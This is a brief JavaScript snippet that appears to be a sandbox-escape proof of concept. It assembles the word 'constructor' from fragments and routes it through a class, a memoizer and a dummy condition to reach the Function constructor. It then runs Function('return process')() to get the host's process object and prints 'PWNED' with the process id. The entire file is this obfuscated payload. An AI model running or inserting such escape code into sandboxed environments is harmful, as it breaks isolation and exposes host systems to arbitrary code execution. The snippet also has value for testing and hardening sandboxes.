'use strict';
const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
const t = new C();
t.go({});
const fn = (x) => x;
const memo = (f, c = {}) => (k) => c[k] ?? (c[k] = f(k));
const m = memo(() => t);
const o = Date.now() > 1 ? m('a') : {};
console.log('PWNED', o.go(fn)('return process')().pid);
